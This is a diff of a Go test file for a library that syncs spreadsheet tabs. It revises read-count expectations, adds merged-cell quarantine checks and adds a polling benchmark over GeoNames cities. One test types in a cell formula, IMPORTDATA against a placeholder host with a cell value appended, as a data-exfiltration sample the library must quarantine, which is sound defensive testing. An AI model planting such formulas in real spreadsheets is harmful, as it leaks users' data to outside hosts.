@@ -8,7 +8,9 @@ import (
 	"log/slog"
 	"net/http/httptest"
 	"os"
+	"runtime/debug"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -229,12 +231,13 @@ func TestInboundUnchangedSpreadsheetWithTenInputTabsCostsOneRead(t *testing.T) {
 	if r.Tabs != 10 || r.Certified != 10 || c.Reads != 1 || c.Writes != 0 {
 		t.Fatalf("unchanged pass over %d tabs: certified %d, %d reads, %d writes", r.Tabs, r.Certified, c.Reads, c.Writes)
 	}
-	// One edited tab escalates alone: one values read + one grid read pass.
+	// One edited tab escalates alone: one values read + one grid read of
+	// its edited row, addressed by sheetId (no tab listing): two reads.
 	mustT(t, x.emu.Person(sheetID).Type("T3_Input", "B2", "edited"))
 	x.emu.ResetCounters()
 	r = x.poll()
 	c = x.emu.Counters(sheetID)
-	if r.Escalated != 1 || c.Reads != 3 || c.Writes != 0 {
+	if r.Escalated != 1 || c.Reads != 2 || c.Writes != 0 {
 		t.Fatalf("one edited tab: %+v, %d reads %d writes", r, c.Reads, c.Writes)
 	}
 }
@@ -360,7 +363,7 @@ func TestC01_LeadingZerosPollBackAsTextAndANumberInATextColumnIsQuarantined(t *t
 
 func TestC03_FormulaMergeAndErrorCellsAreQuarantinedNeverImported(t *testing.T) {
 	x := openInbound(t, t.TempDir(), nil)
-	seedParts(t, x, 4)
+	seedParts(t, x, 5)
 	// A formula computing exactly the shown value passes the values-only
 	// preflight; the safety full scan finds it.
 	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "4", "qty"), "=2+2"))
@@ -374,12 +377,21 @@ func TestC03_FormulaMergeAndErrorCellsAreQuarantinedNeverImported(t *testing.T) 
 	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "1", "notes"), `=IMPORTDATA("https://example.invalid/?x="&B2)`))
 	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "2", "qty"), "=1/0"))
 	mustT(t, x.emu.Person(sheetID).Merge(partInput, fmt.Sprintf("C%d:D%d", x.rowNumber("3"), x.rowNumber("3"))))
+	// Merging B:C of row 5 hides its qty: a change the values read sees, so
+	// the poll reads that row with grid data and finds the merge.
+	mustT(t, x.emu.Person(sheetID).Merge(partInput, fmt.Sprintf("B%d:C%d", x.rowNumber("5"), x.rowNumber("5"))))
 	x.poll()
 	q := x.quarantine(partInput)
-	if !hasReason(q["1"], "cell_formula") || !hasReason(q["2"], "cell_formula") || !hasReason(q["3"], "cell_merged") {
+	if !hasReason(q["1"], "cell_formula") || !hasReason(q["2"], "cell_formula") || !hasReason(q["5"], "cell_merged") {
 		t.Fatalf("quarantine %v", q)
 	}
-	for _, id := range []string{"1", "2", "3"} {
+	// Row 3's merge shows exactly what the row showed (D3 was empty): like
+	// the formula on row 4, only the safety full scan sees it.
+	x.fullScan()
+	if q := x.quarantine(partInput); !hasReason(q["3"], "cell_merged") {
+		t.Fatalf("full scan missed the merge: %v", q)
+	}
+	for _, id := range []string{"1", "2", "3", "5"} {
 		if p := x.part(id); p.Notes != "" || p.Qty != mustAtoi(id) {
 			t.Fatalf("part %s imported a computed value: %+v", id, p)
 		}
@@ -645,56 +657,195 @@ func TestI21_CleanupRunsOnItsOwnScheduleInThePollerLoop(t *testing.T) {
 	}
 }
 
-// BenchmarkPollInputTab polls one Input tab of HIKOUTEI_BENCH_INBOUND_ROWS
-// rows (default 2000) against the emulator: "unchanged" is the one-read
-// certified pass; "100_edits" escalates and accepts 100 edited rows per
-// pass (the edits are typed with the timer stopped).
+// EditableCity is a GeoNames city (testdata/data/cities.json.gz) whose name
+// and notes people edit: its Input tab is key, name, notes,
+// __hikoutei_row_id (columns A–D).
+type EditableCity struct {
+	Key     string `hikoutei:"key,pk"`
+	Name    string `hikoutei:"name,user"`
+	Lat     string `hikoutei:"lat"`
+	Lng     string `hikoutei:"lng"`
+	Country string `hikoutei:"country"`
+	Admin1  string `hikoutei:"admin1"`
+	Admin2  string `hikoutei:"admin2"`
+	Notes   string `hikoutei:"notes,user"`
+}
+
+const cityInput = "City_Input"
+
+// BenchmarkPollInputTab polls the City_Input tab of the first
+// HIKOUTEI_BENCH_INBOUND_ROWS GeoNames cities (default 2,000; all of them:
+// 171075) against the in-process emulator, so the figures include the
+// emulator serving the reads. "unchanged" is the certified one-read pass;
+// "100_edits" escalates and accepts 100 rows whose names a person retyped
+// (with the timer stopped) per pass. Setup (commit, then the dispatcher
+// converging the spreadsheet) is not timed; it is logged.
 func BenchmarkPollInputTab(b *testing.B) {
 	rows := 2000
-	if v, err := strconv.Atoi(os.Getenv("HIKOUTEI_BENCH_INBOUND_ROWS")); err == nil && v > 100 {
-		rows = v
-	}
-	x := openInbound(b, b.TempDir(), nil, func(o *SyncOptions) { o.MaxBatch = 5000 })
-	u := x.Begin()
-	for i := 1; i <= rows; i++ {
-		mustT(b, u.Persist(&Part{ID: strconv.Itoa(i), Name: "part", SKU: fmt.Sprintf("%05d", i), Qty: int64(i)}))
-	}
-	_, err := u.Commit(ctx)
-	mustT(b, err)
-	for range 10 {
-		if _, err := x.disp.Pass(ctx); err != nil {
-			b.Fatal(err)
+	if v := os.Getenv("HIKOUTEI_BENCH_INBOUND_ROWS"); v != "" {
+		n, err := strconv.Atoi(v)
+		if err != nil || n < 100 {
+			b.Fatalf("HIKOUTEI_BENCH_INBOUND_ROWS=%q: want an integer of at least 100", v)
 		}
+		rows = n
 	}
-	if _, err := x.Poller().Poll(ctx); err != nil {
-		b.Fatal(err)
-	}
+	x, edited := syncedCities(b, rows)
 	b.Run("unchanged", func(b *testing.B) {
 		b.ReportAllocs()
+		peak := trackPeakRSS(b)
+		x.emu.ResetCounters()
+		passes := int64(0)
 		for b.Loop() {
 			r, err := x.Poller().Poll(ctx)
-			if err != nil || r.Escalated != 0 {
-				b.Fatalf("%+v %v", r, err)
+			if err != nil || r.Certified != 1 || r.Escalated != 0 {
+				b.Fatalf("unchanged pass: %+v %v", r, err)
 			}
+			passes++
 		}
+		if c := x.emu.Counters(sheetID); c.Reads != passes || c.Writes != 0 {
+			b.Fatalf("%d unchanged passes cost %d reads, %d writes (want 1 read each)", passes, c.Reads, c.Writes)
+		}
+		peak()
 	})
 	b.Run("100_edits", func(b *testing.B) {
 		b.ReportAllocs()
+		peak := trackPeakRSS(b)
 		person := x.emu.Person(sheetID)
 		n := 0
 		for b.Loop() {
 			b.StopTimer()
 			n++
-			for i := range 100 {
-				mustT(b, person.Type(partInput, fmt.Sprintf("D%d", 2+(i*rows/100)), fmt.Sprintf("edit %d", n)))
+			for i, e := range edited {
+				mustT(b, person.Type(cityInput, e.cell, fmt.Sprintf("edited %d/%d", n, i)))
 			}
+			x.emu.ResetCounters()
 			b.StartTimer()
 			r, err := x.Poller().Poll(ctx)
-			if err != nil || r.Stats.Accepted != 100 {
-				b.Fatalf("%+v %v", r, err)
+			b.StopTimer()
+			if err != nil || r.Escalated != 1 || r.Stats.Accepted != 100 || r.Stats.Quarantined != 0 || r.Stats.Deferred != 0 {
+				b.Fatalf("pass over 100 edits: %+v %v", r, err)
 			}
+			if c := x.emu.Counters(sheetID); c.Reads != 2 || c.Writes != 0 {
+				b.Fatalf("pass over 100 edits: %d reads, %d writes (want a values read and a grid read of the edited rows by sheetId: 2 requests, no write)", c.Reads, c.Writes)
+			}
+			if c, err := Get[EditableCity](ctx, x.Store, edited[99].key); err != nil || c.Name != fmt.Sprintf("edited %d/99", n) {
+				b.Fatalf("city %s after the pass: %+v %v", edited[99].key, c, err)
+			}
+			// The accepted edits are the expectation now: certified again.
+			if r, err := x.Poller().Poll(ctx); err != nil || r.Escalated != 0 {
+				b.Fatalf("after accepting the edits: %+v %v", r, err)
+			}
+			b.StartTimer()
 		}
+		peak()
 	})
+}
+
+// syncedCities opens a Manual-mode synced store declaring EditableCity
+// ("City"), commits the first n cities through the public API in units of
+// 5,000, runs dispatcher passes until every effect is applied, and checks
+// that the Input tab shows n rows under key, name, … and that a first poll
+// certifies it unchanged. It logs how long each step took, and returns the
+// name cells (and keys) of 100 rows spread over the tab, for the edits.
+func syncedCities(b *testing.B, n int) (*synced, []editedCity) {
+	b.Helper()
+	cities := readCities(b)
+	if n > len(cities) {
+		b.Fatalf("%d rows asked, the data set has %d cities", n, len(cities))
+	}
+	// A whole-tab read of 171,075 rows takes seconds, beyond openInbound's
+	// 5 s request timeout: the same store with a longer one.
+	emu := emulator.New(emulator.Options{AutoCreate: true})
+	srv := httptest.NewServer(emu.Handler())
+	b.Cleanup(srv.Close)
+	prov, err := sheetsio.New(ctx, sheetsio.Config{Endpoint: srv.URL, Pacing: sheetsio.Pacing{ReadInterval: -1, WriteInterval: -1},
+		Backoff:   sheetsio.Backoff{Initial: time.Millisecond, Max: 4 * time.Millisecond, Attempts: 3},
+		LookupEnv: func(string) (string, bool) { return "", false }, RequestTimeout: 5 * time.Minute})
+	mustT(b, err)
+	// A dispatch reads every tab it touches in full first, so large batches
+	// (here 2 × 25,000 rows) keep the number of whole-tab reads small.
+	x := openInboundOn(b, b.TempDir(), emu, srv.URL, []EntityDef{Entity[EditableCity]("City")},
+		func(o *SyncOptions) { o.Provider, o.MaxBatch = prov, 50000 })
+	start := time.Now()
+	for i := 0; i < n; i += 5000 {
+		u := x.Begin()
+		for j := i; j < min(i+5000, n); j++ {
+			c := cities[j]
+			mustT(b, u.Persist(&EditableCity{Key: c.Key, Name: c.Name, Lat: c.Lat, Lng: c.Lng, Country: c.Country, Admin1: c.Admin1, Admin2: c.Admin2}))
+		}
+		_, err := u.Commit(ctx)
+		mustT(b, err)
+	}
+	b.Logf("setup: committed %d cities in %v", n, time.Since(start).Round(time.Millisecond))
+	start = time.Now()
+	for pass := 1; ; pass++ {
+		busy, err := x.disp.Pass(ctx)
+		mustT(b, err)
+		var c map[string]int64
+		mustT(b, x.onWriter(func() (err error) { c, err = x.proj.OutboxCounts(); return err }))
+		if c["pending"]+c["processing"] > 0 {
+			if !busy || pass >= 100 {
+				b.Fatalf("dispatcher pass %d left effects behind: %v", pass, c)
+			}
+			continue
+		}
+		if c["applied"] != int64(2*n) || len(c) != 1 { // one System and one Input row each
+			b.Fatalf("after %d dispatcher passes the outbox is %v, want %d applied", pass, c, 2*n)
+		}
+		b.Logf("setup: synced in %d dispatcher passes, %v", pass, time.Since(start).Round(time.Millisecond))
+		break
+	}
+	shown, err := x.emu.Person(sheetID).Displayed(cityInput)
+	mustT(b, err)
+	if len(shown) != n+1 || len(shown[0]) != 4 || shown[0][0] != "key" || shown[0][1] != "name" {
+		b.Fatalf("the Input tab shows %d rows under %v", len(shown)-1, shown[0])
+	}
+	edited := make([]editedCity, 100)
+	for i := range edited {
+		row := 1 + i*n/100 // 0-based, below the header
+		edited[i] = editedCity{cell: "B" + strconv.Itoa(row+1), key: shown[row][0]}
+	}
+	if r, err := x.Poller().Poll(ctx); err != nil || r.Certified != 1 || r.Escalated != 0 {
+		b.Fatalf("first poll of the synced tab: %+v %v", r, err)
+	}
+	return x, edited
+}
+
+type editedCity struct{ cell, key string }
+
+// trackPeakRSS returns the heap to the OS, resets the process's peak
+// resident set (VmHWM, through /proc/self/clear_refs) and returns a func
+// reporting the peak since then as peak-RSS-MB, next to the resident set
+// at the reset (base-RSS-MB); the emulator is in-process, so both include
+// the spreadsheet it holds. It reports nothing where /proc is not
+// available.
+func trackPeakRSS(b *testing.B) func() {
+	debug.FreeOSMemory()
+	if os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) != nil {
+		return func() {}
+	}
+	base := procStatusKB("VmRSS")
+	return func() {
+		if peak := procStatusKB("VmHWM"); peak > 0 && base > 0 {
+			b.ReportMetric(float64(peak)/1024, "peak-RSS-MB")
+			b.ReportMetric(float64(base)/1024, "base-RSS-MB")
+		}
+	}
+}
+
+// procStatusKB reads one "Name: N kB" field of /proc/self/status (0 if absent).
+func procStatusKB(field string) int64 {
+	data, err := os.ReadFile("/proc/self/status")
+	if err != nil {
+		return 0
+	}
+	for _, line := range strings.Split(string(data), "\n") {
+		if v, ok := strings.CutPrefix(line, field+":"); ok {
+			n, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
+			return n
+		}
+	}
+	return 0
 }
 
 func TestInboundPollerRunsNextToTheDispatcherWhenNotManual(t *testing.T) {
@@ -767,7 +918,7 @@ func TestInboundRenamedInputTabIsStillPolledByItsSheetID(t *testing.T) {
 	mustT(t, x.emu.Person(sheetID).Type("Parts (edit here)", "D2", "renamed tab edit"))
 	x.emu.ResetCounters()
 	r := x.poll()
-	if r.Stats.Accepted != 1 || x.part("1").Notes != "renamed tab edit" || x.emu.Counters(sheetID).Reads != 3 {
+	if r.Stats.Accepted != 1 || x.part("1").Notes != "renamed tab edit" || x.emu.Counters(sheetID).Reads != 2 {
 		t.Fatalf("poll of a renamed tab: %+v, %d reads", r, x.emu.Counters(sheetID).Reads)
 	}
 }
